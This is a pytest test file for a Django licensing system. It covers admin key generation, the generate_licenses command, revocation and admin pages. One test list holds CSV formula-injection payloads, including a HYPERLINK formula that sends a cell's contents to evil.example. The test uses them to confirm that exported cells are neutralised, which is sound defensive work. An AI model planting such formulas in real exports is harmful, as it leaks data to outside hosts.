"""Operators' side of licensing: the admin and generate_licenses."""

import csv
import io
import re
from datetime import UTC, datetime
from urllib.parse import unquote

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from devices.spreadsheet import spreadsheet_safe
from licensing.models import KEY_ALPHABET, DeviceLicense, License, LicenseKind
from tests.factories import AccountFactory, DeviceFactory
from tests.licensing.conftest import make_license

pytestmark = pytest.mark.django_db

KEY = re.compile(rf"^[{KEY_ALPHABET}]{{5}}(-[{KEY_ALPHABET}]{{5}}){{3}}$")


def test_generate_keys_in_the_admin(admin_client):
    owner = AccountFactory(login="pool@example.com")
    url = reverse("admin:licensing_license_generate")
    assert admin_client.get(url).status_code == 200
    response = admin_client.post(
        url, {"count": 10, "account_login": "POOL@example.com", "max_activations": 2, "reference": "order-1"}
    )
    assert response.status_code == 200
    assert len(response.context["keys"]) == 10
    assert all(KEY.match(key) for key in response.context["keys"])
    assert License.objects.filter(account=owner, max_activations=2, reference="order-1").count() == 10


def test_generate_refuses_an_unknown_account(admin_client):
    response = admin_client.post(
        reverse("admin:licensing_license_generate"), {"count": 1, "account_login": "nobody", "max_activations": 1}
    )
    assert response.context["form"].errors == {"account_login": ["No account has this login."]}
    assert not License.objects.exists()


def test_generated_keys_are_offered_as_the_csv_generate_licenses_writes(admin_client):
    # given
    AccountFactory(login="pool@example.com")
    url = reverse("admin:licensing_license_generate")
    # when
    response = admin_client.post(
        url, {"count": 3, "account_login": "pool@example.com", "max_activations": 2, "expires_on": "2031-05-01"}
    )
    # then: the answer carries the file, in the command's format
    html = response.content.decode()
    link = re.search(r'<a href="data:text/csv;charset=utf-8,([^"]+)" download="(license-keys-[0-9-]+\.csv)"', html)
    assert link is not None
    rows = list(csv.reader(io.StringIO(unquote(link.group(1)))))
    assert rows[0] == ["key", "max_activations", "account", "expires_at", "reference"]
    assert sorted(row[0] for row in rows[1:]) == sorted(response.context["keys"])
    assert {tuple(row[1:]) for row in rows[1:]} == {("2", "pool@example.com", "2031-05-01T00:00:00+00:00", "")}
    assert set(License.objects.values_list("expires_at", flat=True)) == {datetime(2031, 5, 1, tzinfo=UTC)}


@pytest.mark.parametrize("day", [0, -1, -400])
def test_an_expiry_that_has_begun_is_refused_beside_its_field(admin_client, day):
    expires_on = (timezone.now() + timezone.timedelta(days=day)).date().isoformat()
    response = admin_client.post(
        reverse("admin:licensing_license_generate"), {"count": 1, "max_activations": 1, "expires_on": expires_on}
    )
    assert response.context["form"].errors == {
        "expires_on": ["This day has begun or passed: the keys would be expired already."]
    }
    html = response.content.decode()
    assert '<div class="form-row field-expires_on errors">' in html
    assert not License.objects.exists()


def test_the_generate_page_has_the_admins_date_picker(admin_client):
    html = admin_client.get(reverse("admin:licensing_license_generate")).content.decode()
    assert 'class="vDateField"' in html and "admin/js/calendar.js" in html and "/admin/jsi18n/" in html


def test_revoke_and_assign_actions(admin_client):
    license = make_license()
    owner = AccountFactory(login="pool@example.com")
    url = reverse("admin:licensing_license_changelist")
    admin_client.post(url, {"action": "revoke", "_selected_action": [license.pk]})
    license.refresh_from_db()
    assert license.revoked_at is not None
    admin_client.post(
        url, {"action": "assign_to_account", "_selected_action": [license.pk], "account_login": "pool@example.com"}
    )
    license.refresh_from_db()
    assert license.account == owner


def test_a_keys_page_shows_its_activations_with_devices_and_last_validation(admin_client, client):
    license = make_license()
    session = client.post(
        "/api/v2/device/license/activate", {"licenseKey": license.key}, content_type="application/json"
    ).json()["data"]["sessionId"]["id"]
    client.post("/api/v2/device/license/validate", HTTP_X_SESSION_ID=session)
    page = admin_client.get(reverse("admin:licensing_license_change", args=[license.pk])).content.decode()
    assert session in page
    assert "Last validated" in page or "last validated" in page.lower()
    device_page = admin_client.get(reverse("admin:devices_device_change", args=[license.sessions.get().device_id]))
    assert session in device_page.content.decode()


def run(*args) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command(*args, stdout=out, stderr=err)
        return 0, out.getvalue(), err.getvalue()
    except CommandError as exc:
        return exc.returncode, out.getvalue(), str(exc)


def test_generate_licenses_writes_csv_with_a_header_and_keys_first(tmp_path):
    owner = AccountFactory(login="pool@example.com")
    output = tmp_path / "keys.csv"
    code, out, _ = run(
        "generate_licenses",
        "--count",
        "25",
        "--account",
        "pool@example.com",
        "--max-activations",
        "3",
        "--expires",
        "2030-01-01",
        "--output",
        str(output),
        "--batch-size",
        "10",
    )
    assert code == 0
    assert out.strip() == "Generated 25 license key(s)."
    rows = list(csv.reader(output.open()))
    assert rows[0] == ["key", "max_activations", "account", "expires_at", "reference"]
    assert len(rows) == 26
    assert all(KEY.match(row[0]) for row in rows[1:])
    assert {tuple(row[1:4]) for row in rows[1:]} == {("3", "pool@example.com", "2030-01-01T00:00:00+00:00")}
    assert License.objects.filter(account=owner).count() == 25


def test_generate_licenses_with_a_reference_is_safe_to_run_again(tmp_path):
    first, second = tmp_path / "1.csv", tmp_path / "2.csv"
    assert run("generate_licenses", "--count", "5", "--reference", "order-7", "--output", str(first))[0] == 0
    code, out, _ = run("generate_licenses", "--count", "5", "--reference", "order-7", "--output", str(second))
    assert code == 0
    assert out.strip() == "Generated 0 license key(s); 5 of reference 'order-7' existed already. Nothing to change."
    assert first.read_text() == second.read_text()
    assert License.objects.count() == 5


def test_generate_licenses_to_standard_output_keeps_the_summary_out_of_the_csv():
    code, out, err = run("generate_licenses", "--count", "2")
    assert code == 0
    assert out.splitlines()[0] == "key,max_activations,account,expires_at,reference"
    assert len(out.splitlines()) == 3
    assert "Generated 2" in err


FORMULAS = ['=HYPERLINK("https://evil.example/?k="&A2,"open")', "+1+1", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_generate_licenses_writes_no_cell_a_spreadsheet_would_run_as_a_formula(tmp_path, formula):
    # given: an account login and a reference that a spreadsheet would take for formulas
    AccountFactory(login=formula)
    output = tmp_path / "keys.csv"
    # when
    code, _, _ = run(
        "generate_licenses", "--count", "2", f"--account={formula}", f"--reference={formula}", "--output", str(output)
    )
    # then: those cells start with an apostrophe (text to a spreadsheet); keys, numbers and dates are untouched
    assert code == 0
    rows = list(csv.reader(output.open(newline="")))
    assert rows[0] == ["key", "max_activations", "account", "expires_at", "reference"]
    assert len(rows) == 3
    for key, max_activations, account, expires_at, reference in rows[1:]:
        assert KEY.match(key)
        assert (max_activations, account, expires_at, reference) == ("1", "'" + formula, "", "'" + formula)
    assert License.objects.filter(reference=formula).count() == 2  # stored as typed, neutralised only in the CSV


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("pool@example.com", "pool@example.com"),
        ("ABCDE-FGHIJ-KLMNO-PQRST", "ABCDE-FGHIJ-KLMNO-PQRST"),
        ("2030-01-01T00:00:00+00:00", "2030-01-01T00:00:00+00:00"),
        (3, 3),
        ("", ""),
    ],
)
def test_a_csv_cell_is_neutralised_only_when_it_starts_like_a_formula(cell, written):
    assert spreadsheet_safe(cell) == written


BATCH_TERMS = {"--account": "pool@example.com", "--max-activations": "2", "--expires": "2030-01-01"}


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"--account": "other@example.com"}, "account pool@example.com"),
        ({"--max-activations": "5"}, "max-activations 2"),
        ({"--expires": "2031-01-01"}, "expires-at 2030-01-01T00:00:00+00:00"),
        (None, "account pool@example.com, expires-at 2030-01-01T00:00:00+00:00, max-activations 2"),
    ],
    ids=["account", "max activations", "expiry", "none given"],
)
def test_generate_licenses_under_a_reference_made_with_other_terms_is_a_usage_error(changed, said):
    # given: a batch made for one account, with two activations a key and an expiry
    AccountFactory(login="pool@example.com"), AccountFactory(login="other@example.com")
    options = [item for pair in BATCH_TERMS.items() for item in pair]
    assert run("generate_licenses", "--count", "2", "--reference", "order-9", *options)[0] == 0
    # when: the batch is completed with other terms
    other = [item for pair in {**BATCH_TERMS, **changed}.items() for item in pair] if changed else []
    code, _, err = run("generate_licenses", "--count", "4", "--reference", "order-9", *other)
    # then: it says which, and makes nothing
    assert code == 2
    assert f"--reference order-9: keys under it have {said}, not what this run asks for." in err
    assert License.objects.count() == 2


def test_generate_licenses_completes_a_batch_made_with_the_same_terms():
    AccountFactory(login="pool@example.com")
    same = [
        "--reference",
        "order-9",
        "--account",
        "POOL@example.com",
        "--max-activations",
        "2",
        "--expires",
        "2030-01-01",
    ]
    assert run("generate_licenses", "--count", "2", *same)[0] == 0
    assert run("generate_licenses", "--count", "5", *same)[0] == 0
    assert (
        License.objects.filter(reference="order-9", max_activations=2, account__login="pool@example.com").count() == 5
    )


def test_generate_licenses_dry_run_and_usage_errors():
    assert run("generate_licenses", "--count", "3", "--dry-run")[0] == 0
    assert not License.objects.exists()
    assert run("generate_licenses", "--count", "0")[0] == 2
    assert run("generate_licenses", "--count", "1", "--account", "nobody@example.com")[0] == 2
    assert run("generate_licenses", "--count", "1", "--expires", "next tuesday")[0] == 2
    assert not License.objects.exists()


@pytest.mark.parametrize("count", [10, 100])
def test_generate_licenses_queries_per_batch_do_not_grow(count, tmp_path, django_assert_num_queries):
    # SAVEPOINT, INSERT the batch, RELEASE.
    with django_assert_num_queries(3):
        run("generate_licenses", "--count", str(count), "--output", str(tmp_path / "k.csv"))


def test_the_device_license_pages_show_the_apis_status_code(admin_client):
    # given: one device license of each status
    vendor = AccountFactory(is_vendor=True)
    for serial, kwargs in [
        ("SN-FREE", {}),
        ("SN-USED", {"activations_count": 1}),
        ("SN-GONE", {"revoked_at": timezone.now()}),
    ]:
        license = License.objects.create(key=serial, kind=LicenseKind.DEVICE, **kwargs)
        DeviceLicense.objects.create(
            license=license,
            vendor=vendor,
            manufacturer_name="Example Manufacturer",
            manufacturer_id="791",
            model="IPC-xyz",
            serial_number=serial,
            manufacture_date="2025-01-01",
        )
    # when
    listing = admin_client.get(reverse("admin:licensing_devicelicense_changelist"))
    used = DeviceLicense.objects.get(serial_number="SN-USED")
    page = admin_client.get(reverse("admin:licensing_devicelicense_change", args=[used.pk]))
    # then
    assert listing.status_code == page.status_code == 200
    for shown in (b"0 (registered)", b"1 (activated)", b"2 (revoked)"):
        assert shown in listing.content
    assert b"1 (activated)" in page.content


def _device_license(serial: str) -> DeviceLicense:
    license = License.objects.create(key=serial, kind=LicenseKind.DEVICE)
    return DeviceLicense.objects.create(
        license=license,
        vendor=AccountFactory(is_vendor=True),
        manufacturer_name="Example Manufacturer",
        manufacturer_id="791",
        model="IPC-xyz",
        serial_number=serial,
        manufacture_date="2025-01-01",
    )


def activate(client, key: str):
    return client.post("/api/v2/device/license/activate", {"licenseKey": key}, content_type="application/json")


@pytest.mark.parametrize("model", [License, DeviceLicense], ids=["license key", "device license"])
def test_licenses_are_revoked_never_deleted_one_by_one_or_in_bulk(admin_client, model):
    # given
    registered = _device_license("SN-KEPT")
    row = registered if model is DeviceLicense else registered.license
    opts = model._meta
    changelist = reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist")
    delete_page = reverse(f"admin:{opts.app_label}_{opts.model_name}_delete", args=[row.pk])
    # when
    asked = admin_client.get(delete_page)
    posted = admin_client.post(delete_page, {"post": "yes"})
    bulk = admin_client.post(
        changelist, {"action": "delete_selected", "_selected_action": [row.pk], "post": "yes", "index": 0}
    )
    # then
    assert (asked.status_code, posted.status_code, bulk.status_code) == (403, 403, 302)
    offered = admin_client.get(changelist).context["action_form"].fields["action"].choices
    assert "delete_selected" not in [name for name, _label in offered]
    assert DeviceLicense.objects.filter(pk=registered.pk).exists()
    assert License.objects.filter(pk=registered.license_id).exists()


def test_revoking_a_device_license_in_the_admin_stops_its_serial_activating(admin_client, client):
    # given
    registered = _device_license("SN-STOLEN")
    other = _device_license("SN-OTHER")
    # when
    response = admin_client.post(
        reverse("admin:licensing_devicelicense_changelist"),
        {"action": "revoke", "_selected_action": [registered.pk], "index": 0},
        follow=True,
    )
    # then
    assert [str(m) for m in response.context["messages"]] == ["1 device license(s) revoked."]
    refused = activate(client, "SN-STOLEN")
    assert refused.status_code == 403
    assert refused.json() == {"reason": "License found but invalid", "statusCode": 403, "statusText": "Forbidden"}
    assert activate(client, other.serial_number).status_code == 200
    listing = admin_client.get(reverse("admin:licensing_devicelicense_changelist")).content
    assert b"2 (revoked)" in listing and b"1 (activated)" in listing


def test_a_device_licenses_serial_number_is_read_only_once_registered(admin_client):
    registered = _device_license("SN-FIXED")
    page = admin_client.get(reverse("admin:licensing_devicelicense_change", args=[registered.pk]))
    assert "serial_number" not in page.context["adminform"].form.fields
    assert b"SN-FIXED" in page.content


def test_activations_name_their_devices_and_a_device_links_to_its_key(admin_client, client):
    # given: a key activated by a device, which the registry then names by its MAC
    license = make_license()
    client.post("/api/v2/device/license/activate", {"licenseKey": license.key}, content_type="application/json")
    device = license.sessions.get().device
    device.mac = "A1B2C3D4E5F6"
    device.save()
    # when
    sessions = admin_client.get(reverse("admin:licensing_licensesession_changelist")).content.decode()
    key_page = admin_client.get(reverse("admin:licensing_license_change", args=[license.pk])).content.decode()
    device_page = admin_client.get(reverse("admin:devices_device_change", args=[device.pk])).content.decode()
    # then
    device_url = reverse("admin:devices_device_change", args=[device.pk])
    assert f'<a href="{device_url}">A1:B2:C3:D4:E5:F6</a>' in sessions
    assert f'<a href="{device_url}">A1:B2:C3:D4:E5:F6</a>' in key_page
    key_url = reverse("admin:licensing_license_change", args=[license.pk])
    assert f'<a href="{key_url}">{license}</a>' in device_page


def test_an_accounts_page_links_to_the_lists_of_what_it_owns(admin_client):
    # given
    owner, other = AccountFactory(), AccountFactory()
    owned_key, _ = make_license(account=owner), make_license(account=other)
    owned_device, _ = DeviceFactory(account=owner), DeviceFactory(account=other)
    # when
    page = admin_client.get(reverse("admin:devices_account_change", args=[owner.pk])).content.decode()
    links = dict(
        (label, url.replace("&amp;", "&")) for url, label in re.findall(r'<a href="([^"]+\?[^"]+)">([a-z ]+)</a>', page)
    )
    # then: each link is the list of exactly what the account owns
    assert set(links) == {"devices", "license keys", "registered device licenses"}
    assert [d.pk for d in admin_client.get(links["devices"]).context["cl"].result_list] == [owned_device.pk]
    assert [k.pk for k in admin_client.get(links["license keys"]).context["cl"].result_list] == [owned_key.pk]
    assert list(admin_client.get(links["registered device licenses"]).context["cl"].result_list) == []
